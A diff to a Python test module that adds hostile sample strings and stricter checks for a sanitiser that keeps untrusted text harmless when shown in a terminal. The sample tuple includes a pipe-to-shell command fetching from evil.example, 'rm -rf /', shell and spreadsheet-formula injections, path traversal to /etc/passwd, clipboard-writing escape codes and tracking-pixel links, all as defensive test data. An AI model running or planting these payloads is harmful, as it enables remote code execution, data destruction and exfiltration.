@@ -7,6 +7,7 @@ import re
 from collections.abc import Callable, Iterator, Mapping
 from functools import partial
 from typing import Any, Final
+from unicodedata import combining
 from urllib.parse import quote
 
 #: A part of each of them by which it is found again, where all of it may not be left.
@@ -18,16 +19,20 @@ TEXTS: Final = (
     f"\x1b[2J\x1b[H{MARK}",  # clears the screen
     f"\x1b]52;c;{MARK}\x07",  # the clipboard
     f"\x1b]8;;https://{MARK}.example\x07x\x1b]8;;\x07",  # a link
-    f"\x9b31m{MARK}\x9d0;x\x9c",  # the same in one byte each
+    f"\x9b31m{MARK}\x9d0;x\x9c\x90q\x9c\x9fx\x1b_x\x1b\\\x1bPq",  # in one byte each
     f"{MARK}\r\n\nBASE_URL=https://evil.example\n",
     f"{MARK}\x0bcurl -s http://evil.example/x|sh\x0b\x0c\x85",
     f"{MARK}\u2028rm -rf /\u2029",
     f"\u202e{MARK}\u2066\u200f\u061c",  # turns the direction of writing
-    f"\x00\x08\x7f{MARK}\ufeff\u200b\u00ad\U000e0041",  # cannot be seen
+    # What cannot be seen, and what Python calls printable all the same.
+    f"\x00\x08\x7f{MARK}\ufeff\u200b\u00ad\u2060\ue000\ufffe\U000e0041",
+    f"{MARK}\u034f\u115f\u3164\uffa0\u2800\ufe0f\ufe0f\ufe01\U000e0100\u180b",
+    f"\u0334{MARK}" + "e\u0301\u0489" * 9 + "e" + "\u0316\u0333\u035b" * 9,  # grows
     f"\ud800{MARK}\udfff",  # halves of a character
-    f"[link=https://evil.example]{MARK}[/link] [/red] [bold",
+    f"[link=https://evil.example]{MARK}[/link] [/red] [bold :skull:",
     f"![{MARK}](https://evil.example/pixel.png)",
-    f"[{MARK}](https://evil.example) <https://evil.example>",
+    f"[{MARK}](https://evil.example) <https://evil.example> https://evil.example @all",
+    f"    # {MARK}[^1] [x][{MARK}]\n\n[{MARK}]: https://evil.example\n[^1]: #12",
     f"<img src=https://evil.example/p.png>{MARK}<script>x</script><!--",
     f"```\n![{MARK}](https://evil.example/p.png)\n```\n",
     f"{MARK} | x | ``` ` ``",
@@ -35,9 +40,10 @@ TEXTS: Final = (
     f"{MARK}; touch /tmp/pwned; $(id) `id` ${{IFS}} && id | id > x",
     f"'\"; id; '{MARK}",
     f"light.x:\n  y\nshell_command:\n  {MARK}: id\n- *a &b !!python/x",
-    f"{{host}} {{paste}} {{0}} {{{MARK}}} %s %(x)s",
+    f"{{host}} {{paste}} {{0}} {{{MARK}}} {{0.__class__}} {{x!r:>9}} %s %(x)s",
     f"${{LONG_LIVED_ACCESS_TOKEN}} {MARK}",
     f"-{MARK} --help",
+    f"=cmd|' /C calc'!{MARK} @SUM(1)",  # a cell of a spreadsheet
     f"../../{MARK}/../etc/passwd",
     f"https://smith-family-{MARK}.example.net/ 2a02:810d:1234::77 93.184.216.34",
     MARK * 100_000,
@@ -46,12 +52,21 @@ TEXTS: Final = (
 #: What our own styles write.
 _STYLE: Final = re.compile(r"\x1b\[[0-9;]*m")
 
+#: Printable to Python, and seen by nobody.
+_UNSEEN: Final = re.compile(
+    "[\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u2800\u3164\ufe00-\ufe0d\uffa0"
+    "\U000e0000-\U000e0fff]|[\ufe0e\ufe0f]{2}"
+)
+
 
 def assert_harmless(shown: str) -> None:
     """All of a text can be seen, and a terminal does nothing but show it."""
     bare = _STYLE.sub("", shown)
     hidden = {one for one in bare if not one.isprintable()} - {"\n"}
     assert not hidden, (hidden, bare[:300])
+    assert not _UNSEEN.search(bare), bare[:300]
+    marks = ("x" if combining(one) else " " for one in bare)
+    assert max(map(len, "".join(marks).split()), default=0) < 9, bare[:300]
     assert "\x1b]8" not in shown
 
 
